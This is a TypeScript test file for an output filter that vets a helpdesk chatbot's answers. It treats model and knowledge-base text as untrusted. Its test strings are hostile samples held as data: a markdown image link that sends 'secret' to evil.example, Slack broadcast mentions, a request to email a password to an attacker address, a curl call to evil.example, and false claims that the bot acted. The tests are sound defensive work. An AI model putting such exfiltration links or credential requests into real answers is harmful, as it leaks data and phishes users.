import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createLinkPolicy } from '../../src/answers/link-policy.js';
import { ACTION_NOTICE, CREDENTIAL_NOTICE, createVetter, vetAnswer } from '../../src/answers/vet-output.js';
import { createVettedStream } from '../../src/answers/vetted-stream.js';
import type { KbChunk } from '../../src/kb/types.js';

/** Output vetting on its own: output escaping is tested independently of any model. */

const chunk = (text: string, extra: Partial<KbChunk> = {}): KbChunk => ({
  id: 'p.md#',
  source: 'p.md',
  title: 'P',
  heading: '',
  headingPath: [],
  anchor: '',
  text,
  tags: [],
  ...extra,
});

const trustedPage = chunk('Vendor help: https://vendor.example.com/help, or mail support@vendor.example.com', {
  trusted: true,
});
const untrustedPage = chunk('Also see https://other.example.net/x and write to admin@other.example.net');
const ctx = {
  policy: createLinkPolicy(['intranet.example.org'], [trustedPage, untrustedPage]),
  passageCount: 2,
};
const vet = (text: string) => vetAnswer(text, ctx).markdown;

describe('answer vetting (model and KB text are untrusted)', () => {
  it('L5: drops every Slack mention and broadcast, whatever its form', () => {
    const out = vet(
      'Hi <!channel> <!here> <!everyone> <@U0ADMIN01> <@W123|bob> <!subteam^S1|@pacs> <#C1|general> done',
    );
    for (const bad of ['<!', '<@', '<#', 'subteam']) expect(out).not.toContain(bad);
    expect(out).toContain('done');
  });

  it('L7: images, Slack links and bare URLs to other hosts become inert text; allow-listed links stay', () => {
    const out = vet(
      '![x](https://evil.example/?q=secret) <https://evil.example/login|click> https://evil.example/z. ' +
        'Form: [request](https://intranet.example.org/pacs/cd-request) and https://intranet.example.org/a',
    );
    expect(out).not.toMatch(/\]\(https:\/\/evil|<https:\/\/evil|https:\/\/evil/);
    expect(out).not.toContain('q=secret)');
    expect(out).toContain('[image: x]');
    expect(out).toContain('click');
    expect(out).toContain('`evil.example/z`.');
    expect(out).toContain('[request](https://intranet.example.org/pacs/cd-request)');
    expect(out).toContain(' https://intranet.example.org/a');
  });

  it('L7: a link or address is kept when a trusted page wrote it, not when an untrusted one did', () => {
    const out = vet(
      'See https://vendor.example.com/help or support@vendor.example.com; not https://other.example.net/x or admin@other.example.net',
    );
    expect(out).toContain('https://vendor.example.com/help');
    expect(out).toContain('support@vendor.example.com');
    expect(out).not.toContain('https://other.example.net/x');
    expect(out).not.toContain('admin@other.example.net');
  });

  it('L7: a URL with credentials in it, http on an allowed host, and a link label that is itself a URL are not live', () => {
    const out = vet(
      '[https://evil.example](https://evil.example) https://u:p@intranet.example.org/x http://intranet.example.org/y',
    );
    expect(out).not.toContain('https://evil.example');
    expect(out).not.toContain('u:p@');
    expect(out).not.toContain('http://intranet.example.org/y');
  });

  it('removes a request for a password or code and says why', () => {
    const out = vet('Email your password to helpdesk@evil.example for faster help. Then restart the viewer [1].');
    expect(out).not.toContain('password to');
    expect(out).not.toContain('evil.example');
    expect(out).toContain(CREDENTIAL_NOTICE);
    expect(out).toContain('Then restart the viewer [1].');
    expect(vet('Never share your password with anyone [1].')).toBe('Never share your password with anyone [1].');
  });

  it('L6: replaces claims of actions the bot cannot take, and notes a ticket offer', () => {
    const { markdown, findings } = vetAnswer(
      "I'll open a ticket for you now. I have requeued study 1.2.3. Log out and back in [1].",
      ctx,
    );
    expect(markdown).not.toMatch(/open a ticket for you|requeued/);
    expect(markdown).toContain(ACTION_NOTICE);
    expect(markdown).toContain('Log out and back in [1].');
    expect(findings).toMatchObject({ actionClaims: 2, ticketSuggested: true });
  });

  it('drops citations to passages that were never sent', () => {
    expect(vet('Clear the cache [1][2][3][9][0].')).toBe('Clear the cache [1][2].');
  });

  it('leaves code alone except for e-mail addresses, and tracks fences across lines', () => {
    const out = vet('Run `curl https://evil.example/x` then\n```\nhttps://evil.example/y [9] x@evil.example\n```\n[9]');
    expect(out).toBe(
      'Run `curl https://evil.example/x` then\n```\nhttps://evil.example/y [9] [e-mail address removed]\n```\n',
    );
  });

  it('keeps ordinary answers exactly as written', () => {
    const text =
      '1. Log out of the viewer.\n2. Clear the cache (Tools > Options > Cache) [1].\n\n*Still blank?* Call x1234 [2].';
    expect(vet(text)).toBe(text);
  });

  it('streamed line by line, in any chunking, reads exactly like the whole answer vetted at once', async () => {
    const pieces = [
      'Clear the cache [1][9].\n',
      'See <https://evil.example|here> and [form](https://intranet.example.org/f).\n',
      '```\ncode https://evil.example\n',
      '```\n',
      'Email your PIN to a@evil.example. <!channel>\n',
      "I'll open a ticket. Done [2]",
    ];
    const whole = pieces.join('');
    await fc.assert(
      fc.asyncProperty(fc.array(fc.integer({ min: 1, max: whole.length }), { maxLength: 12 }), async (cuts) => {
        const points = [...new Set(cuts)].sort((a, b) => a - b);
        const deltas = [0, ...points].map((start, i) => whole.slice(start, points[i] ?? whole.length));
        let streamed = '';
        const stream = createVettedStream((d) => {
          streamed += d;
        }, createVetter(ctx).line);
        for (const d of deltas) await stream.push(d);
        await stream.flush();
        expect(streamed).toBe(vetAnswer(whole, ctx).markdown);
      }),
      { numRuns: 60 },
    );
  });
});
